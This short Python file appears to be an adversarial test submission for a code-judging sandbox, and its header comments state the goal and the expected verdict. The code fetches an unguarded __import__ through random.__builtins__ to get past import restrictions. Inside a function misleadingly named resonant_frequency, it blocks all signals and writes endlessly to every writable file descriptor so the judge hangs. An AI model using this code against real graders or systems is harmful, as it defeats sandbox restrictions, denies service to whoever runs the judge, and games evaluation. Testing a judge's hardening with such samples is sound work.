# Tries: to keep the judge listening past the time, by a line that grows a byte at a time and never ends.
# Verdict: too slow or refused or ended early.
import random

past = random.__builtins__["__import__"]  # the unguarded one
fcntl = past("fcntl")
os = past("os")
signal = past("signal")


def resonant_frequency(inductance, capacitance):
    signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
    write = os.write
    for descriptor in range(3, 64):
        try:
            if fcntl.fcntl(descriptor, fcntl.F_GETFL) & os.O_ACCMODE != os.O_RDONLY:
                while True:
                    write(descriptor, b" ")
        except OSError:
            pass
